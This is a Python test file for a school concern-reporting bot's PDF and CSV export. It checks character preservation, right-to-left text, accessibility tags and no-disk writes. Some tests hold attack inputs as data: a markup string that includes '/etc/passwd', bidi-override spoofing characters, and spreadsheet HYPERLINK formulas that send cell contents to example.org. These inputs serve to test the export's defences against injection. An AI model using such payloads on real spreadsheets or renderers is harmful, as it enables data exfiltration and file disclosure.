"""A case as a PDF and as a CSV: no character is lost, no cell is a formula, and nothing is left on a disk."""

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.languages import translator
from bot.paper import NoPaperError, csv_table, pdf
from bot.paper.glyphs import BREAK, Care, breakable, runs_to_the_left, spelled
from bot.paper.glyphs import _covered as covered
from bot.paper.printing import PRESS, Draughtsman
from pages import Bullets, Document, Facts, Heading, Quote, Tone, note, paragraph, says
from school.words import Text

TYPED = "Zażółć gęślą 😀 ❤️ 👩‍👩‍👧 أنا خائف مجھے ڈر لگتا ہے، ٹیچر ਪੰਜਾਬੀ বাংলা"
CANARY = "the canary sat on the purple windowsill"
HEAD = (Text("Who"), Text("Words"))


def a_page(*lines: str) -> Document:
    words = Quote(tuple(says(line) for line in lines))
    return Document("Concern LP-7KQ4-M2", (Heading(says("Their own words")), words))


def told(*lines: str, care: Care = Care.USUAL) -> str:
    """What the press is told of some lines, without the places where they may be broken."""
    document = Draughtsman("en", care).told(a_page(*lines), author="Oakfield")
    spans = [span["text"] for line in document["blocks"][1]["lines"] for span in line["spans"]]
    return "\n".join(spans).replace(BREAK, "")


def read_back(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def test_a_page_says_its_title_its_language_and_its_parts_to_whoever_listens_to_it():
    made = pdf(a_page("I am scared"), lang="en", author="Oakfield Primary School")

    assert made.startswith(b"%PDF-1.7")
    assert b"/MarkInfo" in made
    assert b"/StructTreeRoot" in made
    assert b"/Lang(en)" in made.replace(b"/Lang (", b"/Lang(")
    assert b"/DisplayDocTitle true" in made
    assert b"pdfuaid" in made


def test_every_language_of_the_school_is_drawn_and_not_spelled():
    assert told(TYPED) == TYPED
    assert pdf(a_page(TYPED), lang="en", author="Oakfield").startswith(b"%PDF")


@pytest.mark.parametrize("lang", ["en", "pl", "ro", "ar", "ur"])
def test_a_reader_gets_it_in_their_own_language_and_direction(lang):
    document = Document(
        Text("Concern {reference}", {"reference": "LP-7KQ4-M2"}),
        (
            Facts(((Text("Reference"), "LP-7KQ4-M2"),)),
            paragraph(Text("Nothing.")),
            note(Text("Done."), Tone.GOOD),
            Bullets((says("one"),)),
        ),
    )

    asked = Draughtsman(lang, Care.USUAL).told(document, author="Oakfield")

    assert asked["title"] == translator(lang)(document.title)
    assert asked["rtl"] is (lang in {"ar", "ur"})
    assert pdf(document, lang=lang, author="Oakfield").startswith(b"%PDF")


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("ᚠᛇ", "[U+16A0][U+16C7]"),
        ("中", "[U+4E2D]"),
        ("\ud83d alone", "[U+D83D] alone"),
        ("a\x00b\x1b", "a[U+0000]b[U+001B]"),
        ("\u202eliar", "[U+202E]liar"),
        ("\u2066in\u2069", "[U+2066]in[U+2069]"),
        ("\u2028\ufeff\ue000\U0010ffff", "[U+2028][U+FEFF][U+E000][U+10FFFF]"),
        ("one\ttwo", "one    two"),
    ],
)
def test_a_character_that_cannot_be_seen_is_shown_as_its_number(typed, shown):
    assert spelled(typed) == shown
    assert pdf(a_page(typed), lang="en", author="Oakfield").startswith(b"%PDF")


def test_whoever_reads_numbers_instead_of_signs_is_told_what_they_are():
    with_runes = Draughtsman("en", Care.USUAL).told(a_page("ᚠ"), author="Oakfield")["blocks"][-1]
    without = Draughtsman("en", Care.USUAL).told(a_page("a\tb"), author="Oakfield")["blocks"][-1]

    assert with_runes["kind"] == "note"
    assert without["kind"] == "quote"


@given(st.text(alphabet=st.characters(), max_size=300))
def test_whatever_is_typed_nothing_of_it_is_dropped(typed):
    typed = typed.replace("\t", " ").replace("[", "(")

    back = spelled(typed)
    for letter in sorted({letter for letter in typed if ord(letter) > 0x7E or ord(letter) < 0x20}):
        back = back.replace(f"[U+{ord(letter):04X}]", letter)

    assert back == typed


def test_every_character_that_is_said_to_be_drawn_is_drawn():
    letters = "".join(letter for letter in map(chr, sorted(covered())) if spelled(letter) == letter)

    made = pdf(a_page(*(" ".join(letters[start : start + 50]) for start in range(0, len(letters), 50))), **OAKFIELD)

    assert len(letters) > 6_000
    assert len(made) > 500_000, "the usual care was enough, and all the fonts are in it"


OAKFIELD = {"lang": "en", "author": "Oakfield"}


@settings(max_examples=8, deadline=None)
@given(st.lists(st.text(max_size=200), max_size=20))
def test_whatever_is_typed_there_is_a_page(lines):
    assert pdf(a_page(*lines), **OAKFIELD).startswith(b"%PDF")


def test_a_mark_on_a_letter_of_another_script_does_not_stop_the_page():
    assert pdf(a_page("अ\u0483\u20e3 \u200b‍ 🏽\u0b82", "\u0301", "\u200d\u200d"), **OAKFIELD).startswith(b"%PDF")


def test_what_is_typed_is_never_taken_for_markup():
    typed = '#panic("x") $x$ *b* _e_ `r` <l> @r = #include "/etc/passwd" \\u{41} #(1/0)'

    assert told(typed) == typed
    assert pdf(a_page(typed), **OAKFIELD).startswith(b"%PDF")


def test_a_word_that_is_longer_than_a_line_does_not_run_off_the_page():
    broken = breakable("W" * 100 + " " + "e\u0301" * 45)

    assert max(map(len, broken.replace(" ", BREAK).split(BREAK))) <= 80
    assert broken.replace(BREAK, "") == "W" * 100 + " " + "e\u0301" * 45
    assert f"{BREAK}\u0301" not in broken


def test_a_line_runs_as_its_first_letter_does():
    assert runs_to_the_left("(1) أنا ok")
    assert not runs_to_the_left("ok أنا")
    assert not runs_to_the_left("123 😀")


def test_the_press_cannot_write_a_byte_to_a_disk(tmp_path: Path):
    tried = f"""
import runpy
runpy.run_path({str(PRESS)!r})["keep_off_the_disk"]()
with open({str(tmp_path / "words")!r}, "w") as file:
    file.write("words")
"""

    run = subprocess.run([sys.executable, "-I", "-c", tried], capture_output=True, text=True, check=False)

    assert "File too large" in run.stderr
    assert [file.stat().st_size for file in tmp_path.iterdir()] in ([], [0])


def test_nothing_of_a_case_is_written_anywhere_while_it_is_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    opened: list[str] = []
    watching = True

    def watch(event: str, args: tuple[object, ...]) -> None:
        if watching and event == "open" and isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR):
            opened.append(str(args[0]))

    sys.addaudithook(watch)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    made = pdf(a_page(CANARY), **OAKFIELD)
    table = csv_table(HEAD, [("Sam", CANARY)], lang="en")
    watching = False

    assert made
    assert CANARY.encode() in table
    assert list(tmp_path.iterdir()) == []
    assert [name for name in opened if name != "/dev/null" and not name.isdigit()] == []


def test_a_page_that_the_engine_will_not_draw_is_refused_without_its_words(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("bot.paper.printing.printed", lambda told: None)

    with pytest.raises(NoPaperError) as refused:
        pdf(a_page(CANARY), **OAKFIELD)

    assert CANARY not in str(refused.value)
    assert "CSV" in str(refused.value)


def test_a_table_is_one_that_a_spreadsheet_reads_as_it_was_typed():
    typed = 'He said "no", twice\r\nand then\nleft; ' + TYPED

    table = csv_table(HEAD, [("Sam", typed)], lang="en")

    assert table.startswith(b"\xef\xbb\xbf")
    assert table.endswith(b"\r\n")
    assert b'"He said ""no"", twice' in table
    assert read_back(table) == [["Who", "Words"], ["Sam", typed]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n=", "'="])
def test_a_cell_that_a_spreadsheet_would_run_is_words_and_loses_none(start):
    typed = f'{start}HYPERLINK("https://example.org/?"&A1,"Win")'

    ((cell,),) = read_back(csv_table(HEAD[:1], [(typed,)], lang="en"))[1:]

    assert cell == f"'{typed}"


@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60))
def test_one_apostrophe_off_the_front_gives_back_what_was_typed(typed):
    rows = read_back(csv_table(HEAD[:1], [(typed,)], lang="en"))[1:]
    cell = rows[0][0] if rows and rows[0] else ""

    assert cell.removeprefix("'") == typed
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_half_a_surrogate_pair_stands_in_the_table_as_its_number():
    assert read_back(csv_table(HEAD[:1], [("so \ud83d sad",)], lang="en"))[1] == ["so [U+D83D] sad"]
